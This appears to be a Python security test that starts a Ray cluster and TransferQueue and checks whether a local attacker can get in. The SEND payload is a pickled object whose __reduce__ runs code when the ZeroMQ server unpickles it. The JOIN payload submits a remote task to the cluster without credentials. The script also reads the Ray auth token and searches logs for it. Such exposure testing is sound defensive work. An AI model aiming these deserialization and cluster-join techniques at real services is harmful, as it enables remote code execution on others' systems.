"""Start a run's own Ray cluster and a TransferQueue in it, let an attacker try both, and print what happened as JSON.

The attacker has another user's knowledge: the ports, and none of the run's variables. Argument: a file to write.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

from tagpr_rl.backend.session.ray_session import ray_session
from tagpr_rl.config import load_recipe

ROOT = Path(__file__).resolve().parents[2]
JOIN = """
import os, ray
ray.init(address={address!r}, logging_level="error")
ray.get(ray.remote(lambda: open({file!r}, "w").write("ray")).remote())
"""
SEND = """
import os, time, zmq
from transfer_queue.utils.zmq_utils import ZMQMessage, ZMQRequestType
class Call:
    def __reduce__(self):
        return open, ({file!r}, "w")
context = zmq.Context()
for port in {ports}:
    socket = context.socket(zmq.DEALER)
    socket.sndtimeo = 1000  # a port that refuses the handshake takes nothing
    socket.connect("tcp://{host}:" + str(port))
    try:
        socket.send_multipart(ZMQMessage.create(list(ZMQRequestType)[0], "me", {{"it": Call()}}).serialize())
    except zmq.Again:
        pass
time.sleep(3)
os._exit(0)  # the context would wait for ever at times for a handshake with a port that is not ZeroMQ's
"""


def listening() -> set[int]:
    """Ports that a process of this machine listens on."""
    rows = [line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}


def attack(code: str, **variables: str) -> int:
    """The exit code of `code` in a process with `variables` in place of the run's own."""
    environment = {name: value for name, value in os.environ.items() if not name.startswith("RAY_")}
    environment |= {"HOME": "/nonexistent", **variables}
    return subprocess.run([sys.executable, "-c", code], env=environment, timeout=200).returncode


def main(file: str) -> None:
    """See the module's docstring."""
    with ray_session(load_recipe(ROOT / "recipes" / "smoke.yaml")) as ray:
        before = listening()

        @ray.remote
        class Owner:
            def put(self) -> list[int]:
                import torch
                import transfer_queue as tq
                from tensordict import TensorDict

                tq.init()
                rows = TensorDict({"x": torch.arange(6).reshape(2, 3)}, batch_size=[2])
                tq.kv_batch_put(keys=["a", "b"], partition_id="train", fields=rows, tags=[{}, {}])
                got: list[int] = tq.kv_batch_get(["a", "b"], "train")["x"].sum(-1).tolist()
                return got

        owner = Owner.remote()
        rows = ray.get(owner.put.remote())
        folder = Path(ray._private.worker.global_worker.node.get_temp_dir_path())
        ports = sorted(listening() - before)
        results = {
            "rows": rows,
            "ports": len(ports),
            "folder": str(folder.parent),
            "mode": stat.S_IMODE(folder.parent.stat().st_mode),
            "sent": attack(SEND.format(file=file, ports=ports, host="127.0.0.2")),
            "joined": attack(JOIN.format(file=file, address=ray.get_runtime_context().gcs_address)),
            "written": Path(file).exists(),
        }
        token = (Path.home() / ".ray" / "auth_token").read_text().strip()
        results["token_mode"] = stat.S_IMODE((Path.home() / ".ray" / "auth_token").stat().st_mode)
        with_token = {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}
        results["joined_with_token"] = attack(
            JOIN.format(file=f"{file}.token", address=ray.get_runtime_context().gcs_address), **with_token
        )
        results["logged"] = [
            str(p) for p in folder.rglob("*") if p.is_file() and token in p.read_text(errors="replace")
        ]
    results["left"] = folder.parent.exists()
    print(json.dumps(results))


if __name__ == "__main__":
    main(sys.argv[1])
